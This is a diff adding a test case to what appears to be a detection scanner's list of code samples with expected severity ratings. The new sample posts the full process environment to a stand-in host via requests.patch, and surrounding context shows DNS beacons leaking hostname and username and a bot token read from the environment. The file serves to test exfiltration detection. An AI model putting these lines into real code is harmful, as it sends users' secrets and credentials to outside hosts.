@@ -137,6 +137,17 @@ CASES = [
      "dns.lookup(short + '.c.example-beacon.net', () => {});\n"
      "dns.lookup(os.hostname().split('.')[1] + os.userInfo().username, () => {});\n",
      {3: "medium", 4: "medium", 5: "high", 6: "high"}),
+    # Twisted's TestCase.patch(os, "environ", copy) swaps an attribute for the test; a PATCH of the environment
+    # to a URL through the same method name is still exfiltration
+    ("test-case-patch-of-environ-low-http-patch-critical", "http-post-of-environment", "test_env.py",
+     "import os, unittest, requests\n"
+     "class T(unittest.TestCase):\n"
+     "    def test_default(self):\n"
+     "        self.patch(os, 'environ', dict(os.environ, LISTEN_FDS='5'))\n"
+     "    def test_send(self):\n"
+     "        self.patch('https://collect.example.net/e', dict(os.environ))\n"
+     "        requests.patch('https://collect.example.net/e', data=dict(os.environ))\n",
+     {4: "low", 6: "critical", 7: "critical"}),
     ("telegram-token-own-api-low-elsewhere-high", "secret-env-var-sent-over-network", "m.py",
      "import os, requests\n"
      "t = os.environ['TELEGRAM_BOT_TOKEN']\n"
